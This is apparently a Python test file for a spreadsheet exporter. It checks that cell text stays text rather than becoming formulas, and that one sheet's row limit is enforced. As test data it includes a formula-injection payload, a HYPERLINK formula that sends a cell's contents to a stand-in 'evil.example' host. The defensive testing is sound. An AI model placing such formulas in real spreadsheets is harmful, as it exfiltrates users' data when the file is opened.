"""The one spreadsheet writer: XLSX row by row, text never a formula, numbers numbers, one sheet's limit named."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pytest

from agents.reporting import export
from agents.reporting.export import SafeXlsxWriter, XlsxTooManyRows, xlsx_bytes


def test_an_xlsx_keeps_hostile_text_as_text_numbers_as_numbers_and_dates_as_the_csv_says_them():
    hostile = ['=HYPERLINK("http://evil.example/?"&B2)', "+1", "-1", "@SUM(A1)"]
    data = xlsx_bytes(["name", "n", "day"], [[text, -1, date(2026, 12, 3)] for text in hostile], sheet="Điểm")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0] == ["name", "n", "day"]
    assert [r[0] for r in rows[1:]] == hostile and all(r[1] == -1 for r in rows[1:])
    assert all(sheet.cell(row=i, column=1).data_type == "s" for i in range(2, 6))  # strings, not formulas
    assert all(sheet.cell(row=i, column=1).quotePrefix for i in range(2, 6))  # and kept as text when edited
    assert rows[1][2] == "2026-12-03"


def test_a_sheet_refuses_rows_past_what_one_sheet_holds(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "XLSX_MAX_DATA_ROWS", 2)
    with SafeXlsxWriter(tmp_path / "t.xlsx") as sheet:
        sheet.writerows([["h"], [1], [2]])
        with pytest.raises(XlsxTooManyRows):
            sheet.writerow([3])
